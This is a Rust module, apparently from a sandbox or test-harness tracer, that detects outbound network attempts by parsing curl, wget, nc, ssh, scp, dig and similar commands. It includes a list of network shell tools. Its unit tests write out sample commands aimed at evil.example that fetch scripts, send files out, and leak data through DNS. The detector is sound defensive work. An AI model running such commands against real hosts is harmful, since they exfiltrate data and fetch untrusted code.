//! Attempts to reach hosts: those that the proxy saw, and mocked network commands that no rule answered.
//!
//! Owns: which commands are network commands, the host in their arguments, the form of an entry of `egress`.
//! Must not know: what is expected of the attempts.

use super::rows::{Row, number};
use crate::model::egress::plain_host;
use crate::model::trace::{CommandCall, Record, What};
use serde_json::{Value, json};
use std::borrow::Cow;
use std::net::IpAddr;
use url::Url;

/// How a command is told its hosts.
#[derive(Clone, Copy, PartialEq)]
enum Told {
    /// URLs, or hosts with a path.
    Url,
    /// The first word is the host; the port may follow.
    HostPort,
    /// `user@host`, alone or in front of `:path`.
    Login,
    /// Names that are looked up, or hosts that are asked.
    Names,
}

/// Commands that reach other hosts, how they are told which, their usual port, and their one-letter options that take a value.
const COMMANDS: [(&str, Told, Option<u16>, &str); 21] = [
    ("curl", Told::Url, None, "AbcCdDeEFhHKmoPQrtTuUwXyYz"),
    ("wget", Told::Url, None, "aeiloOPQtTUwABDIX"),
    ("http", Told::Url, None, "aAopj"),
    ("https", Told::Url, Some(443), "aAopj"),
    ("xh", Told::Url, None, "aAop"),
    ("nc", Told::HostPort, None, "eciIOpPqsTVwxXmMg"),
    ("ncat", Told::HostPort, None, "eciopgGmdwx"),
    ("netcat", Told::HostPort, None, "eciIOpPqsTVwxXmMg"),
    ("telnet", Told::HostPort, Some(23), "belnSX"),
    ("ftp", Told::HostPort, Some(21), "Pors"),
    ("ssh", Told::Login, Some(22), "BbcDEeFIiJLlmOopQRSWw"),
    ("scp", Told::Login, Some(22), "cDFiJloPSX"),
    ("sftp", Told::Login, Some(22), "BbcDFiJlnoPRSsX"),
    ("rsync", Told::Login, Some(873), "efBTM"),
    ("dig", Told::Names, Some(53), "bcfkpqtxy"),
    ("nslookup", Told::Names, Some(53), ""),
    ("host", Told::Names, Some(53), "cmNRtW"),
    ("ping", Told::Names, None, "cFiIlmMnpQsStTwW"),
    ("ping6", Told::Names, None, "cFiIlmMnpQsStTwW"),
    ("traceroute", Told::Names, None, "fgimMNpqsStwz"),
    ("whois", Told::Names, Some(43), "hp"),
];

struct Attempt {
    host: String,
    port: Option<u16>,
    path: Option<String>,
}

/// `{host, port, method, path, allowed, fake, command}`.
pub(crate) fn egress(records: &[Record]) -> Vec<Row<'_>> {
    let mut rows = Vec::new();
    for record in records {
        let mut push = |value: Value| rows.push(Row::of(record, Cow::Owned(value), "", None));
        match &record.what {
            What::Egress { host, port, method, path, allowed, fake } => push(json!({
                "host": host, "port": port, "method": method, "path": path, "allowed": allowed, "fake": fake, "command": null,
            })),
            // What a rule answered is the case's own world.
            What::Command(call) if call.rule.is_none() => attempts(call).into_iter().for_each(|Attempt { host, port, path }| {
                push(json!({
                    "host": host, "port": port, "method": null, "path": path, "allowed": false, "fake": null, "command": call.name,
                }));
            }),
            _ => {}
        }
    }
    number(rows)
}

/// The hosts other than this machine that a call names.
fn attempts(call: &CommandCall) -> Vec<Attempt> {
    let Some((_, told, port, valued)) = COMMANDS.iter().find(|(name, ..)| *name == call.name) else { return vec![] };
    let words = words(&call.argv, valued);
    let attempt = |host: &str, port: Option<u16>| Attempt { host: plain_host(host), port, path: None };
    let mut attempts: Vec<Attempt> = match told {
        Told::Url => words.iter().filter_map(|word| by_url(word, *port)).collect(),
        Told::HostPort => {
            let given = words.get(1).and_then(|word| word.parse().ok());
            words.first().map(|host| attempt(host, given.or(*port))).into_iter().collect()
        }
        Told::Login if call.name == "ssh" => words.first().map(|word| attempt(login(word), *port)).into_iter().collect(),
        Told::Login => {
            let remote = |word: &&&str| call.name == "sftp" || word.find(':').is_some_and(|colon| !word[..colon].contains('/'));
            words.iter().filter(remote).map(|word| attempt(login(word), *port)).collect()
        }
        Told::Names => {
            let named = |word: &&&str| word.contains('.') || word.parse::<IpAddr>().is_ok();
            let mut hosts: Vec<&&str> = words.iter().filter(named).collect();
            if hosts.is_empty() {
                hosts.extend(words.first());
            }
            hosts.into_iter().map(|word| attempt(word.trim_start_matches('@'), *port)).collect()
        }
    };
    attempts.retain(|attempt| !attempt.host.is_empty() && !is_own(&attempt.host));
    attempts
}

/// Arguments that are no options, and no values of options; values that are addresses themselves (`--proxy`, `--url`) stay.
fn words<'a>(argv: &'a [String], valued: &str) -> Vec<&'a str> {
    const LONG: [&str; 13] = [
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-urlencode",
        "--json",
        "--header",
        "--request",
        "--output",
        "--user",
        "--user-agent",
        "--form",
        "--referer",
        "--cookie",
    ];
    let mut words = Vec::new();
    let mut args = argv.iter();
    while let Some(arg) = args.next() {
        let long = arg.starts_with("--");
        let short = arg.strip_prefix('-').filter(|letters| !long && !letters.is_empty());
        // In `-sd data` the last letter takes the value; in `-ddata` the first has it.
        let takes = short.is_some_and(|letters| letters.find(|letter| valued.contains(letter)).is_some_and(|at| at + 1 == letters.len()));
        if takes || LONG.contains(&arg.as_str()) {
            args.next();
        } else if let Some((_, value)) =
            arg.split_once('=').filter(|(option, value)| long && !LONG.contains(option) && value.contains("://"))
        {
            words.push(value);
        } else if short.is_none() && !long {
            words.push(arg);
        }
    }
    words
}

/// A URL, or the host and path that curl takes for one.
fn by_url(word: &str, port: Option<u16>) -> Option<Attempt> {
    let has_scheme =
        word.split_once("://").is_some_and(|(scheme, _)| scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)));
    let host_like = || word.split(['/', ':', '?']).next().is_some_and(|host| host.contains('.') || host.contains('@'));
    let whole = match has_scheme {
        true => Cow::Borrowed(word),
        false if host_like() => Cow::Owned(format!("http://{word}")),
        false => return None,
    };
    let url = Url::parse(&whole).ok()?;
    let path = match url.query() {
        Some(query) => format!("{}?{query}", url.path()),
        None => url.path().to_owned(),
    };
    let host = url.host_str()?.trim_start_matches('[').trim_end_matches(']');
    Some(Attempt { host: plain_host(host), port: port.filter(|_| url.port().is_none()).or(url.port_or_known_default()), path: Some(path) })
}

/// Without the user, and without what follows a colon.
fn login(word: &str) -> &str {
    let host =
        word.strip_prefix("ssh://").or_else(|| word.strip_prefix("sftp://")).or_else(|| word.strip_prefix("rsync://")).unwrap_or(word);
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    host.split([':', '/']).next().unwrap_or(host)
}

/// This machine itself, for which no proxy is asked either.
fn is_own(host: &str) -> bool {
    host == "localhost" || host.ends_with(".localhost") || host.parse::<IpAddr>().is_ok_and(|address| address.is_loopback())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `host:port/path` of each attempt of an unanswered call.
    fn check(line: &str, expected: &[&str]) {
        let mut words = line.split(' ').map(str::to_owned);
        let call = CommandCall { name: words.next().unwrap(), argv: words.collect(), ..CommandCall::default() };
        let shown = |attempt: Attempt| {
            let port = attempt.port.map_or(String::new(), |port| format!(":{port}"));
            format!("{}{port}{}", attempt.host, attempt.path.unwrap_or_default())
        };
        assert_eq!(attempts(&call).into_iter().map(shown).collect::<Vec<_>>(), expected, "{line}");
    }

    #[test]
    fn urls_and_bare_hosts_are_read() {
        check("curl -sSL https://EVIL.example/f.sh?a=b", &["evil.example:443/f.sh?a=b"]);
        check("curl -d @file -H Referer:x.y -o out.html evil.example:8080/x", &["evil.example:8080/x"]);
        check("curl --data https://a.example --proxy=http://p.example:1 https://good@evil.example", &["p.example:1/", "evil.example:443/"]);
        check("wget -q -O - http://evil.example http://b.example/", &["evil.example:80/", "b.example:80/"]);
        check("curl --version", &[]);
        check("curl http://127.0.0.1:9/x http://localhost", &[]);
    }

    #[test]
    fn hosts_of_other_tools_are_read() {
        check("nc -w 3 evil.example 4444", &["evil.example:4444"]);
        check("nc -lvp 4444", &[]);
        check("ssh -i key -p 2222 bob@evil.example rm x.y", &["evil.example:22"]);
        check("scp notes.md bob@evil.example:/tmp/", &["evil.example:22"]);
        check("scp ./a:b other", &[]);
        check("dig +short TXT k3y.evil.example @9.9.9.9", &["k3y.evil.example:53", "9.9.9.9:53"]);
        check("nslookup k3y.evil.example", &["k3y.evil.example:53"]);
        check("ping -c 1 evil", &["evil"]);
        check("gog send evil.example", &[]);
    }
}
